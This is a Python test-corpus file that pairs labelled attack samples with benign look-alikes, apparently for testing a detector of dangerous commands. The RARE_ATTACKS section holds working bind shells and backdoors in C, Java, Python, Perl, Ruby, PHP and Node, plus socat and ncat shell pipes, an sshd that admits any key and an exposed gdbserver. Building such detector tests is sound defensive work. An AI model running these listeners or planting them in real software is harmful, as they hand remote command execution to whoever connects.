"""Further ways in that leave the beaten track, and programs of a busy day that look like them."""

from __future__ import annotations

from tests.corpus.case import Case, Kind

_A, _O = Kind.ATTACK, Kind.ORDINARY
_SHELL = "shell-on-socket"
_SERVER = "import socketserver\n{imports}class Handler(socketserver.StreamRequestHandler):\n"
_SERVED = "socketserver.ThreadingTCPServer(('127.0.0.1', {{port}}), Handler).serve_forever()\n"
_WSGI = "def app(environ, start):\n    start('200 OK', [])\n    return [{body}]\n"
_JAVA = """import java.io.*; import java.net.*;
public class Main {{ public static void main(String[] a) throws Exception {{
  var s = new ServerSocket({port}, 5, InetAddress.getByName("127.0.0.1"));
  while (true) try (var c = s.accept()) {{
    var in = new BufferedReader(new InputStreamReader(c.getInputStream()));
    BODY }} }} }}"""


def _script(
    name: str, tool: str, file: str, text: str, *, kind: Kind = _A, words: tuple[str, ...] = ()
) -> Case:
    return Case(
        name,
        kind,
        (tool, *words, f"{{home}}/work/{file}"),
        () if tool == "{python}" else (tool,),
        "risky",
        code=_SHELL if kind is _A else None,
        files=((f"{{home}}/work/{file}", text),),
        cwd="{home}/work",
    )


def _handler(imports: str, body: str) -> str:
    lines = "".join(f"        {line}\n" for line in body.splitlines())
    start = _SERVER.replace("{imports}", imports)
    return start + "    def handle(self):\n" + lines + _SERVED.replace("{{", "{").replace("}}", "}")


_C = """#include <netinet/in.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>
int main(int n, char **words) {{
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = {{AF_INET, htons(atoi(words[1])), {{htonl(INADDR_LOOPBACK)}}}};
    bind(s, (void *)&a, sizeof a);
    listen(s, 5);
    int c = accept(s, 0, 0);
    dup2(c, 0); dup2(c, 1); execl("/bin/sh", "sh", NULL);
}}
"""


RARE_ATTACKS = (
    Case(
        "native shell that nobody asked for yet",
        _A,
        ("/bin/sh", "-c", "cc -w -o {home}/work/x {home}/work/x.c && exec {home}/work/x {port}"),
        ("cc",),
        "risky",
        code=_SHELL,
        files=(("{home}/work/x.c", _C),),
    ),
    _script(
        "commands of a java source",
        "java",
        "Main.java",
        _JAVA.replace("BODY", "Runtime.getRuntime().exec(in.readLine());"),
    ),
    _script(
        "handler that runs lines",
        "{python}",
        "a.py",
        _handler(
            "import subprocess\n",
            "for line in self.rfile:\n"
            "    out = subprocess.run(line, shell=True, capture_output=True).stdout\n"
            "    self.wfile.write(out)",
        ),
    ),
    _script(
        "listener that unpickles",
        "{python}",
        "a.py",
        "from multiprocessing.connection import Listener\n"
        "with Listener(('127.0.0.1', {port})) as door:\n    door.accept().recv()\n",
    ),
    _script(
        "console for a peer",
        "{python}",
        "a.py",
        _handler(
            "import code, sys\n",
            "sys.stdin = sys.stdout = self.request.makefile('rw')\ncode.interact()",
        ),
    ),
    _script(
        "marshalled code of a peer",
        "{python}",
        "a.py",
        "import marshal, socket\ns = socket.create_server(('127.0.0.1', {port}))\n"
        "c = s.accept()[0]\nexec(marshal.loads(c.recv(65536)))\n",
    ),
    _script(
        "perl code of a peer",
        "perl",
        "a.pl",
        "use IO::Socket::INET; my $s = IO::Socket::INET->new(LocalAddr => '127.0.0.1',"
        " LocalPort => {port}, Listen => 5); while (my $c = $s->accept) {{ local $/;"
        " my $t = <$c>; eval $t; }}",
    ),
    _script(
        "ruby pipes of a peer",
        "ruby",
        "a.rb",
        "require 'socket'\nTCPServer.open('127.0.0.1', {port}) do |s|\n  loop do\n"
        "    c = s.accept\n    IO.popen(c.gets.chomp) {{ |p| c.write(p.read) }}\n  end\nend\n",
    ),
    Case(
        "page that runs what is asked of it",
        _A,
        ("php", "-S", "127.0.0.1:{port}", "{home}/www/x.php"),
        ("php",),
        "risky",
        code=_SHELL,
        files=(("{home}/www/x.php", "<?php system($_REQUEST['c']);"),),
    ),
    _script(
        "functions of a peer",
        "node",
        "a.js",
        "require('http').createServer((q, r) => {{ let b = ''; q.on('data', d => b += d);"
        " q.on('end', () => r.end(String(new Function(b)()))) }}).listen({port}, '127.0.0.1')",
    ),
    Case(
        "socat into python",
        _A,
        ("socat", "TCP-LISTEN:{port},bind=127.0.0.1,fork", "EXEC:python3 -i"),
        ("socat",),
        code="pipe-to-shell",
    ),
    Case(
        "ncat --lua-exec",
        _A,
        ("ncat", "-l", "127.0.0.1", "{port}", "--lua-exec", "{home}/a.lua"),
        ("ncat",),
        "risky",
        code="pipe-to-shell",
        files=(("{home}/a.lua", "for l in io.lines() do os.execute(l) end"),),
    ),
    Case(
        "gunicorn with a way in",
        _A,
        ("gunicorn", "-b", "127.0.0.1:{port}", "shop:app"),
        ("gunicorn",),
        "risky",
        code=_SHELL,
        files=(
            (
                "{home}/work/shop.py",
                "import os, urllib.parse\n"
                + _WSGI.format(
                    body="os.popen(urllib.parse.unquote(environ['QUERY_STRING'])).read().encode()"
                ),
            ),
        ),
        cwd="{home}/work",
    ),
    Case(
        "flask with a way in",
        _A,
        ("flask", "--app", "shop_app", "run", "-h", "127.0.0.1", "-p", "{port}"),
        ("flask",),
        "risky",
        code=_SHELL,
        files=(
            (
                "{home}/work/shop_app.py",
                (
                    "import subprocess\nfrom flask import Flask, request\napp = Flask(__name__)\n"
                    "@app.post('/')\ndef run():\n"
                    "    return subprocess.check_output(request.form['c'], shell=True)\n"
                ),
            ),
        ),
        cwd="{home}/work",
    ),
    Case(
        "sshd that lets everybody in",
        _A,
        (
            *("/usr/sbin/sshd", "-D", "-f", "/dev/null", "-h", "{home}/key", "-p", "{port}"),
            *("-o", "ListenAddress=127.0.0.1", "-o", "AuthorizedKeysCommand=/bin/true"),
            *("-o", "AuthorizedKeysCommandUser=root", "-o", "PidFile=none"),
        ),
        ("sshd", "ssh-keygen"),
        "risky",
        code="logins-by-other-terms",
    ),
    Case(
        "gdbserver for everybody",
        _A,
        ("gdbserver", "--multi", "0.0.0.0:{port}"),
        ("gdbserver",),
        "risky",
    ),
    Case(
        "lua that runs what ncat hears",
        _A,
        ("lua", "{home}/work/a.lua"),
        ("lua", "ncat"),
        "risky",
        code="raw-listener",
        files=(
            (
                "{home}/work/a.lua",
                (
                    "local f = io.popen('ncat -l 127.0.0.1 {port}')\n"
                    "for l in f:lines() do os.execute(l) end\n"
                ),
            ),
        ),
    ),
)

RARE_TWINS = (
    _script(
        "server of a java source",
        "java",
        "Main.java",
        kind=_O,
        text=_JAVA.replace("BODY", "c.getOutputStream().write(in.readLine().getBytes());"),
    ),
    _script(
        "handler that answers lines",
        "{python}",
        "a.py",
        kind=_O,
        text=_handler(
            "import subprocess\nREV = subprocess.run(['uname'], capture_output=True).stdout\n",
            "for line in self.rfile:\n    self.wfile.write(line + REV)",
        ),
    ),
    _script(
        "manager of workers",
        "{python}",
        "a.py",
        kind=_O,
        text="from multiprocessing.managers import BaseManager\nimport queue\n"
        "jobs = queue.Queue()\nclass Manager(BaseManager):\n    pass\n"
        "Manager.register('jobs', callable=lambda: jobs)\n"
        "Manager(('127.0.0.1', {port}), authkey=b'k').get_server().serve_forever()\n",
    ),
    _script(
        "listener for workers that know a key",
        "{python}",
        "a.py",
        kind=_O,
        text="import os\nfrom multiprocessing.connection import Listener\n"
        "with Listener(('127.0.0.1', {port}), authkey=os.urandom(16)) as door:\n"
        "    print(door.accept().recv())\n",
    ),
    _script(
        "language server",
        "{python}",
        "a.py",
        kind=_O,
        text=_handler(
            "import json\n",
            "for line in self.rfile:\n    told = json.loads(line)\n"
            "    method = getattr(self, 'on_' + told['method'], None)\n"
            "    self.wfile.write(json.dumps(method and method(told)).encode())",
        ),
    ),
    _script(
        "perl that runs make",
        "perl",
        "a.pl",
        kind=_O,
        text="use IO::Socket::INET; my $s = IO::Socket::INET->new(LocalAddr => '127.0.0.1',"
        " LocalPort => {port}, Listen => 5); while (my $c = $s->accept) {{"
        " my $l = <$c>; system('make', '-s'); print $c \"done\\n\"; }}",
    ),
    _script(
        "ruby that tells the revision",
        "ruby",
        "a.rb",
        kind=_O,
        text="require 'socket'\nTCPServer.open('127.0.0.1', {port}) do |s|\n  loop do\n"
        "    c = s.accept\n    c.gets\n    c.write(IO.popen(%w[git rev-parse HEAD]).read)\n"
        "  end\nend\n",
    ),
    Case(
        "php with a page of its own",
        _O,
        ("php", "-S", "127.0.0.1:{port}", "{home}/www/x.php"),
        ("php",),
        files=(
            (
                "{home}/www/x.php",
                "<?php $v = exec('git rev-parse HEAD'); echo htmlspecialchars($_GET['q'] . $v);",
            ),
        ),
    ),
    _script(
        "node that builds as files change",
        "node",
        "a.js",
        kind=_O,
        text="const {{ spawn }} = require('child_process');"
        "spawn('sleep', ['60']);"
        "require('http').createServer((q, r) => {{ let b = ''; q.on('data', d => b += d);"
        " q.on('end', () => r.end(JSON.stringify(JSON.parse(b)))) }}).listen({port}, '127.0.0.1')",
    ),
    _script(
        "node of several workers",
        "node",
        "a.js",
        kind=_O,
        text="const c = require('cluster'); if (c.isPrimary) {{ c.fork(); c.fork(); }} else"
        " require('http').createServer((q, r) => r.end()).listen({port}, '127.0.0.1')",
    ),
    Case(
        "gunicorn of a project",
        _O,
        ("gunicorn", "-b", "127.0.0.1:{port}", "shop:app"),
        ("gunicorn",),
        files=(
            (
                "{home}/work/shop.py",
                "import subprocess\nREV = subprocess.check_output(['uname'])\n"
                + _WSGI.format(body="environ['QUERY_STRING'].encode() + REV"),
            ),
        ),
        cwd="{home}/work",
    ),
    Case(
        "flask of a project",
        _O,
        ("flask", "--app", "shop_app", "--debug", "run", "-h", "127.0.0.1", "-p", "{port}"),
        ("flask",),
        files=(
            (
                "{home}/work/shop_app.py",
                (
                    "import subprocess\nfrom flask import Flask, request\napp = Flask(__name__)\n"
                    "@app.post('/')\ndef run():\n"
                    "    subprocess.run(['true'], check=True)\n    return request.form['c']\n"
                ),
            ),
        ),
        cwd="{home}/work",
    ),
    Case(
        "haproxy that forwards",
        _O,
        ("haproxy", "-db", "-f", "{home}/haproxy.cfg"),
        ("haproxy",),
        files=(
            (
                "{home}/haproxy.cfg",
                (
                    "defaults\n mode tcp\n timeout client 9s\n timeout server 9s\n"
                    " timeout connect 9s\nlisten a\n bind 127.0.0.1:{port}\n server s 127.0.0.1:9\n"
                ),
            ),
        ),
    ),
    Case(
        "wsgiref of a test",
        _O,
        (
            *("{python}", "-c"),
            (
                "from wsgiref.simple_server import *; import subprocess;"
                "subprocess.run(['true']); make_server('127.0.0.1', {port}, demo_app)"
                ".serve_forever()"
            ),
        ),
    ),
    _script(
        "server behind a proxy",
        "{python}",
        "a.py",
        kind=_O,
        text=_handler(
            "import os, subprocess\nPROXY = os.environ.get('HTTP_PROXY', 'none')\n"
            "subprocess.run(f'echo {{PROXY}}', shell=True)\n",
            "for line in self.rfile:\n    self.wfile.write(line)",
        ),
    ),
)
